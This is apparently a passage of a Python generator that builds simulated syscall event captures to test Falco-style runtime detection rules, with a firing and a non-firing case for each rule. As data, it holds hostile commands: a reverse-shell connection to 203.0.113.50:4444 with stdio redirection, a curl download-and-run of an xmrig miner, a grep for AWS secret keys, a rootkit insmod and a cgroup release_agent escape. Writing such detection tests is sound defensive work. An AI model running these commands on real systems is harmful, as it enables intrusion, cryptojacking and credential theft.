              start=T0 - 2 * S + 5_000_000, vpid=63, pidns=4026532581, caps=0, flags=8, sid=1, pgid=1,
              fds=["0 p pipe:[88120]", "1 p pipe:[88121]", "2 p pipe:[88122]"])
    cc.snapshots(wk, sh, b1, b2)
    if name == "fires":
        cc.event("socket", b2.pid, [("fd", 3), ("domain", "AF_INET"), ("type", 1), ("proto", 0)])
        cc.event("connect", b2.pid, [("res", 0), ("tuple", "172.17.0.2:47810->203.0.113.50:4444"), ("fd", 3), ("addr", "203.0.113.50:4444")])
    else:
        cc.event("socket", b2.pid, [("fd", 3), ("domain", "AF_UNIX"), ("type", 1), ("proto", 0)])
        cc.event("connect", b2.pid, [("res", 0), ("tuple", "unix:/run/php/php8.2-fpm.sock"), ("fd", 3), ("addr", "unix:/run/php/php8.2-fpm.sock")])
    n1 = cc.event("dup2", b2.pid, [("res", 1), ("oldfd", 3), ("newfd", 1)])
    cc.event("close", b2.pid, [("res", 0), ("fd", 3)])
    n2 = cc.event("dup2", b2.pid, [("res", 2), ("oldfd", 1), ("newfd", 2)])
    n3 = cc.event("dup2", b2.pid, [("res", 0), ("oldfd", 1), ("newfd", 0)])
    if name == "fires": c, n, proc, others = cc, n1, b2, (n2, n3)
    else: q = cc
R = "Redirect STDOUT/STDIN to Network Connection in Container"
add(R, "redirect-stdout-stdin-to-network-connection-in-container", "Notice", c, q, n,
    [("proc.aname[2]", "sh"), ("proc.aname[3]", "nginx"), ("proc.aname[4]", "nginx"), ("fd.sip", "203.0.113.50"),
     ("fd.name", "172.17.0.2:47810->203.0.113.50:4444"), ("fd.lport", 47810), ("fd.rport", 4444), ("fd.type", "ipv4"),
     ("fd.l4proto", "tcp")] + tail(proc, c.procs[7706], "dup2"),
    "the same redirections onto a connected unix socket (fd.type unix)",
    also=[(R, others[0]), (R, others[1])])

# 16 ── Linux Kernel Module Injection Detected ────────────────────────────────────────────────
for name, caps, res in (("fires", ALL_CAPS, 0), ("quiet", DOCKER_CAPS, "EPERM")):
    cc = Capture(); shim = docker_host(cc)
    b = Proc(7210, 7010, "bash", [], "bash", "/usr/bin/bash", cgroups=[DOCKER_CGROUP], tty=PTS0, vpid=1, pidns=4026532581, caps=caps,
             start=T0 - 600 * S, flags=9)
    cc.snapshot(b)
    ins = Proc(7300, 7210, "insmod", ["/tmp/rootkit.ko"], "insmod", "/usr/bin/kmod", cgroups=[DOCKER_CGROUP], tty=PTS0, vpid=23,
               pidns=4026532581, caps=caps, flags=9, sid=7210, pgid=7300)
    cc.spawn(b, ins, "/usr/sbin/insmod")
    openat(cc, ins, "/tmp/rootkit.ko", "O_RDONLY|O_CLOEXEC", 3, dev=0x2b, ino=1049921)
    nn = cc.event("finit_module", ins.pid, [("res", res), ("fd", 3), ("uargs", ""), ("flags", 0)])
    if name == "fires": c, n, proc = cc, nn, ins
    else: q = cc
add("Linux Kernel Module Injection Detected", "linux-kernel-module-injection-detected", "Warning", c, q, n,
    [("proc.pexepath", "/usr/bin/bash"), ("proc.aname[2]", "containerd-shim"), ("proc.aexepath[2]", "/usr/bin/containerd-shim-runc-v2"),
     ("proc.args", "/tmp/rootkit.ko"), ("evt.res", "SUCCESS")] + tail(proc, c.procs[7210], "finit_module"),
    "the same insmod in a container with docker's default capabilities (no CAP_SYS_MODULE); it fails with EPERM")

# 17 ── Debugfs Launched in Privileged Container ──────────────────────────────────────────────
for name, comm in (("fires", "debugfs"), ("quiet", "dumpe2fs")):
    cc = Capture(); shim = docker_host(cc)
    b = Proc(7210, 7010, "bash", [], "bash", "/usr/bin/bash", cgroups=[DOCKER_CGROUP], tty=PTS0, vpid=1, pidns=4026532581, caps=ALL_CAPS,
             start=T0 - 600 * S, flags=9)
    cc.snapshot(b)
    d = Proc(7320, 7210, comm, ["/dev/sda1"], comm, "/usr/sbin/" + comm, cgroups=[DOCKER_CGROUP], tty=PTS0, vpid=24,
             pidns=4026532581, caps=ALL_CAPS, flags=9, sid=7210, pgid=7320)
    nn = cc.spawn(b, d, "/usr/sbin/" + comm)
    if name == "fires": c, n, proc = cc, nn, d
    else: q = cc
add("Debugfs Launched in Privileged Container", "debugfs-launched-in-privileged-container", "Warning", c, q, n,
    tail(proc, c.procs[7210], "execve", "EXE_WRITABLE|EXE_LOWER_LAYER"),
    "dumpe2fs instead of debugfs in the same privileged container",
    gap="the condition needs container.privileged = true, which Falco's container plugin reads from the runtime's "
        "container metadata (docker inspect HostConfig.Privileged); Saker has no container runtime client, so the field "
        "is never extractable (a full capability set does not imply --privileged).")

# 18 ── Detect release_agent File Container Escapes ───────────────────────────────────────────
for name, caps in (("fires", DOCKER_CAPS | CAP_SYS_ADMIN), ("quiet", DOCKER_CAPS)):
    cc = Capture(); shim = docker_host(cc)
    b = Proc(7210, 7010, "sh", [], "sh", "/usr/bin/dash", cgroups=[DOCKER_CGROUP], tty=PTS0, vpid=1, pidns=4026532581, caps=caps,
             start=T0 - 600 * S, flags=9, cwd="/")
    cc.snapshot(b)
    nn = openat(cc, b, "/tmp/cgrp/release_agent", "O_TRUNC|O_CREAT|O_WRONLY", 3, mode="0666", dev=0x2e, ino=7)
    if name == "fires": c, n, proc = cc, nn, b
    else: q = cc
add("Detect release_agent File Container Escapes", "detect-release-agent-file-container-escapes", "Critical", c, q, n,
    [("fd.name", "/tmp/cgrp/release_agent"), ("thread.cap_effective", caps_to_string(DOCKER_CAPS | CAP_SYS_ADMIN))]
    + tail(proc, c.procs[7010], "openat"),
    "the same write by a container with docker's default capabilities (no CAP_SYS_ADMIN)")

# 19 ── PTRACE attached to process ────────────────────────────────────────────────────────────
for name, req in (("fires", "PTRACE_ATTACH"), ("quiet", "PTRACE_PEEKDATA")):
    cc = Capture(); sh = root_host(cc)
    g = Proc(20700, 20546, "gdb", ["-p", "903"], "gdb", "/usr/bin/gdb", loginuid=1000, tty=PTS0, cwd="/root", cgroups=[SESSION_CGROUP],
             sid=20546, pgid=20700, flags=1)
    cc.spawn(sh, g, "/usr/bin/gdb")
    nn = cc.event("ptrace", g.pid, [("res", 0), ("request", req), ("pid", 903), ("addr", 0 if req == "PTRACE_ATTACH" else 0x55d4c3a1e000), ("data", 0)])
    if name == "fires": c, n, proc = cc, nn, g
    else: q = cc
add("PTRACE attached to process", "ptrace-attached-to-process", "Warning", c, q, n,
    [("proc.pcmdline", "bash")] + tail(proc, c.procs[20546], "ptrace"),
    "gdb reads memory with PTRACE_PEEKDATA: not an attach or injection request")

# 20 ── PTRACE anti-debug attempt ─────────────────────────────────────────────────────────────
for name, req in (("fires", "PTRACE_TRACEME"), ("quiet", "PTRACE_GETREGS")):
    cc = Capture(); sh = host_base(cc)
    m = Proc(20710, 20491, "./kdevtmpfsi", [], "kdevtmpfsi", "/tmp/.ICE-unix/kdevtmpfsi", uid=1000, loginuid=1000, tty=PTS0,
             cwd="/tmp/.ICE-unix", cgroups=[SESSION_CGROUP], sid=20491, pgid=20710, flags=1)
    cc.spawn(sh, m, "./kdevtmpfsi")
    nn = cc.event("ptrace", m.pid, [("res", 0 if req == "PTRACE_TRACEME" else "ESRCH"), ("request", req), ("pid", 0 if req == "PTRACE_TRACEME" else 1), ("addr", 0), ("data", 0)])
    if name == "fires": c, n, proc = cc, nn, m
    else: q = cc
add("PTRACE anti-debug attempt", "ptrace-anti-debug-attempt", "Notice", c, q, n,
    [("proc.pcmdline", "bash")] + tail(proc, c.procs[20491], "ptrace"),
    "the same binary issues PTRACE_GETREGS (it fails with ESRCH): not PTRACE_TRACEME")

# 21 ── Find AWS Credentials ──────────────────────────────────────────────────────────────────
for name, args in (("fires", ["-ri", "aws_secret_access_key", "/home", "/root"]), ("quiet", ["-ri", "aws_region", "/home", "/root"])):
    cc = Capture(); sh = host_base(cc)
    g = Proc(20720, 20491, "grep", args, "grep", "/usr/bin/grep", uid=1000, loginuid=1000, tty=PTS0, cwd="/home/alice",
             cgroups=[SESSION_CGROUP], sid=20491, pgid=20720)
    nn = cc.spawn(sh, g, "/usr/bin/grep")
    if name == "fires": c, n, proc = cc, nn, g
    else: q = cc
add("Find AWS Credentials", "find-aws-credentials", "Warning", c, q, n,
    [("proc.pcmdline", "bash"), ("proc.cwd", "/home/alice/"), ("group.gid", 1000), ("group.name", "alice"),
     ("user.loginname", "alice")] + tail(proc, c.procs[20491], "execve", "0"),
    "grep for aws_region: not a credential key name")

# 22 ── Execution from /dev/shm ───────────────────────────────────────────────────────────────
for name, path in (("fires", "/dev/shm/kdevtmpfsi"), ("quiet", "/var/tmp/kdevtmpfsi")):
    cc = Capture(); sh = host_base(cc)
    m = Proc(20730, 20491, path, [], "kdevtmpfsi", path, uid=1000, loginuid=1000, tty=PTS0, cwd="/home/alice",
             cgroups=[SESSION_CGROUP], sid=20491, pgid=20730, flags=1)
    nn = cc.spawn(sh, m, path)
    if name == "fires": c, n, proc = cc, nn, m
    else: q = cc
add("Execution from /dev/shm", "execution-from-dev-shm", "Warning", c, q, n,
    [("evt.res", "SUCCESS"), ("fd.name", ""), ("proc.cwd", "/home/alice/"), ("proc.pcmdline", "bash"), ("user.loginname", "alice"),
     ("group.gid", 1000), ("group.name", "alice")] + tail(proc, c.procs[20491], "execve", "EXE_WRITABLE"),
    "the same binary run from /var/tmp")

# 23 ── Drop and execute new binary in container ──────────────────────────────────────────────
for name, (path, flags) in (("fires", ("/tmp/xmrig", 3)), ("quiet", ("/usr/local/bin/xmrig", 9))):
    cc = Capture(); shim = docker_host(cc)
    sh = Proc(7210, 7010, "sh", ["-c", "curl -so /tmp/xmrig http://203.0.113.50/x && chmod +x /tmp/xmrig && /tmp/xmrig -o pool:3333"],
              "sh", "/usr/bin/dash", cgroups=[DOCKER_CGROUP], vpid=1, pidns=4026532581, caps=DOCKER_CAPS, start=T0 - 30 * S,
              flags=9, cwd="/app")
    cc.snapshot(sh)
    ctime = T0 - 4 * S + 417_000_000 if name == "fires" else T0 - 40 * 86400 * S
    x = Proc(7240, 7210, path, ["-o", "pool:3333"], "xmrig", path, cgroups=[DOCKER_CGROUP], vpid=9, pidns=4026532581,
             caps=DOCKER_CAPS, flags=flags, cwd="/app", sid=7210, pgid=7210, ino=2753981, ctime=ctime, mtime=ctime - 1_000_000)
    nn = cc.spawn(sh, x, path)
    if name == "fires": c, n, proc = cc, nn, x
    else: q = cc
add("Drop and execute new binary in container", "drop-and-execute-new-binary-in-container", "Critical", c, q, n,
    [("proc.exe", "/tmp/xmrig"), ("proc.sname", "sh"), ("proc.aname[2]", "containerd-shim"),
     ("proc.exe_ino.ctime", proc.ctime), ("proc.exe_ino.mtime", proc.mtime),
     ("proc.exe_ino.ctime_duration_proc_start", proc.start - proc.ctime), ("proc.cwd", "/app/"),
     ("container.start_ts", None)] + tail(proc, c.procs[7210], "execve", "EXE_WRITABLE|EXE_UPPER_LAYER"),
    "the same miner shipped in the image (/usr/local/bin, EXE_LOWER_LAYER)")

# 24 ── Disallowed SSH Connection Non Standard Port ───────────────────────────────────────────
for name, port in (("fires", 443), ("quiet", 22)):
    cc = Capture(); sh = host_base(cc)
    s = Proc(20740, 20491, "ssh", ["-o", "ConnectTimeout=10", "-p", str(port), "git@198.51.100.23"], "ssh", "/usr/bin/ssh", uid=1000, loginuid=1000, tty=PTS0,
             cwd="/home/alice", cgroups=[SESSION_CGROUP], sid=20491, pgid=20740)
    cc.spawn(sh, s, "/usr/bin/ssh")
    cc.event("socket", s.pid, [("fd", 3), ("domain", "AF_INET"), ("type", 1), ("proto", 6)])
    nn = cc.event("connect", s.pid, [("res", "EINPROGRESS"), ("tuple", f"10.0.0.5:51234->198.51.100.23:{port}"), ("fd", 3), ("addr", f"198.51.100.23:{port}")], dt=41_000_000)
    if name == "fires": c, n, proc = cc, nn, s
    else: q = cc
add("Disallowed SSH Connection Non Standard Port", "disallowed-ssh-connection-non-standard-port", "Notice", c, q, n,
    [("fd.name", "10.0.0.5:51234->198.51.100.23:443"), ("fd.lport", 51234), ("fd.rport", 443), ("fd.type", "ipv4"),
     ("fd.l4proto", "tcp")] + tail(proc, c.procs[20491], "connect"),
    "the same ssh connection to port 22 (non-blocking connect under ConnectTimeout: EINPROGRESS)",
    known={"fd.name": "on a connect that returned an error (EINPROGRESS included) libs' fd.name goes through "
                      "extract_from_null_fd, whose extract_fdname_from_creator renders the connect's tuple parameter; "
                      "Saker's nameWithoutDescriptor only knows the open family and returns the empty string"})

# 25 ── Fileless execution via memfd_create ───────────────────────────────────────────────────
for name in ("fires", "quiet"):
    cc = Capture(); sh = host_base(cc)
    parent_comm = "python3" if name == "fires" else "runc"
    if name == "fires":
        loader = Proc(20750, 20491, "python3", ["/tmp/.l.py"], "python3", "/usr/bin/python3.11", uid=1000, loginuid=1000, tty=PTS0,
                      cwd="/home/alice", cgroups=[SESSION_CGROUP], sid=20491, pgid=20750, start=T0 - 3 * S)
    else:
        loader = Proc(20750, 20491, "runc", ["--version"], "runc", "/usr/bin/runc", uid=1000, loginuid=1000, tty=PTS0,
                      cwd="/home/alice", cgroups=[SESSION_CGROUP], sid=20491, pgid=20750, start=T0 - 3 * S)
    cc.snapshot(loader)
    cc.event("memfd_create", loader.pid, [("fd", 3), ("name", "payload"), ("flags", "MFD_CLOEXEC")])
    x = Proc(20751, 20750, "[kworker/u8:2]", [], "3", "/memfd:payload", uid=1000, loginuid=1000, tty=PTS0, cwd="/home/alice",
             cgroups=[SESSION_CGROUP], sid=20491, pgid=20750, flags=5)
    nn = cc.spawn(loader, x, "/dev/fd/3", etype="execveat", extra=[("dirfd", 3), ("exec_flags", 0x1000)])
    if name == "fires": c, n, proc = cc, nn, x
    else: q = cc
add("Fileless execution via memfd_create", "fileless-execution-via-memfd-create", "Critical", c, q, n,
    [("container.start_ts", None), ("proc.cwd", "/home/alice/"), ("evt.res", "SUCCESS"), ("proc.sname", "bash"),
     ("proc.aname[2]", "bash")] + tail(proc, c.procs[20750], "execveat", "EXE_WRITABLE|EXE_FROM_MEMFD"),
    "the same memfd execution with runc as the parent (known_memfd_execution_processes)")

with open(f"{OUT}/expectations.json", "w") as f:
    f.write('{\n  "rules": [\n')
    f.write(",\n".join("    " + json.dumps(c_, separators=(", ", ": ")) for c_ in cases))
    f.write("\n  ]\n}\n")
print(len(cases))
